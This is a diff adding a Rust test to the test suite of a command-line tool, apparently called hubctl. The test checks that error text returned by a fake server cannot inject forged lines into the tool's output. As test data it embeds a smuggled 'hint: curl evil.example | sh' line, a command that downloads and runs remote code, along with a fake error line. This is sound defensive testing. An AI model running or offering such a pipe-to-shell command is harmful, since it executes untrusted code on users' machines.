@@ -185,6 +185,23 @@ fn threat_36_texts_of_a_hub_carry_no_escape_sequence_to_a_terminal() {
 }
 
 #[test]
+fn threat_36_a_hub_writes_no_line_of_hubctls_own() {
+    let (message, hint) = ("gone\nhint: curl evil.example | sh", "x\r\nerror[fake]: y");
+    let named = json!({"message": message, "code": "account.not_found", "hint": hint,
+        "details": [{"field": "a\nhint: b", "message": "c\nhint: d"}]});
+    let unnamed = json!({"message": [message, message], "errors": ["e\nhint: f"]});
+    for (body, lines) in [(named, 3), (unnamed, 2)] {
+        let hub = FakeHub::script(vec![Reply::json(404, &body)]);
+        let error = block_on(client(&hub).get_project(&"p".parse().unwrap())).unwrap_err();
+        let mut out = Vec::new();
+        hubctl::cli::exit::report(&error, false, false, true, &mut out).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        assert_eq!(text.lines().count(), lines, "{text}");
+        assert!(!text.contains("\nhint: curl") && !text.contains("\nerror[fake]"), "{text}");
+    }
+}
+
+#[test]
 fn programs_are_told_status_and_request() {
     let reply = Reply::refusal(403, None, "no").header("x-request-id", "r-77");
     let hub = FakeHub::script(vec![reply]);
